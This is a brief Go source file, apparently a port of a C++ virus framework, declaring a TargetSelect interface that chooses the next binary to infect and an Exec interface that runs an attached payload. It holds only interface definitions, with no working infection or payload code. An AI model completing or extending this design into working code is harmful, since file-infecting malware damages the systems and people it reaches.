package virus

// TargetSelect chooses the next binary to infect when InfectNext is
// called with no explicit target. REDESIGN FLAGS: replaces the
// original's template-SFINAE-checked TargetSelectPolicy with an
// explicit trait bound. runningPath is this process's own executable
// path, so an implementation can exclude itself from consideration
// (the original's sample policy loops until its pick is not
// equivalent to the running program).
type TargetSelect interface {
	NextTarget(runningPath string) string
}

// Exec launches, waits for, and reports the result of an attached
// payload. REDESIGN FLAGS: replaces the original's ExecPolicy
// SFINAE-checked trait with an explicit bound. Exec may return at once
// or run the process to completion itself; either way, Wait returns
// only once the process Exec started has finished.
type Exec interface {
	Exec(prog string, args []string, env []string)
	Wait()
	Result() int
}
